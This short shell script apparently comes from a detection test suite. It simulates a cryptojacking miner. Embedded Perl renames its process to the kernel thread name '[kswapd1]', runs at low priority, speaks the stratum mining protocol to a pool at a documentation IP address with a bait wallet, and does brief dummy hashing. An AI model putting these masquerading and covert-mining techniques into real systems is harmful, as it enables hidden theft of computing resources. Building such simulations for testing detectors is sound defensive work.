#!/bin/sh
. /opt/case/case.sh

nice -n 19 perl -MIO::Socket::INET -MDigest::SHA=sha256 -e '
$0 = "[kswapd1]";
my $c = IO::Socket::INET->new("203.0.113.10:3333") or die;
print $c qq({"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}\n); $c->flush; my $job = <$c>;
print $c qq({"id":2,"method":"mining.authorize","params":["bc1qbait.w1","x"]}\n); $c->flush;
for (my ($end, $n) = (time + 4, 0); time < $end; $n++) { sha256(sha256("head$n")) }
print $c qq({"id":4,"method":"mining.submit","params":["bc1qbait.w1","1","00","6","7"]}\n); $c->flush;
exit($job !~ /job_id/)'
took_place
